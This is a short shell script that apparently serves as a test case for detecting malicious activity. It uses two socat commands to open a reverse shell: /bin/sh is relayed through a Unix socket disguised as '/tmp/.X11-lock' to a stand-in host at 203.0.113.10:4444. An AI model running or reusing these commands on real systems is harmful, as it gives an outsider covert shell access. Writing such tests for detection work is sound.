#!/bin/sh
. /opt/case/case.sh

socat UNIX-LISTEN:/tmp/.X11-lock TCP:203.0.113.10:4444 & way=$!
wait_for /tmp/.X11-lock
socat UNIX-CONNECT:/tmp/.X11-lock EXEC:/bin/sh,pipes &
wait_for /tmp/reached
kill $way 2>/dev/null || true
took_place
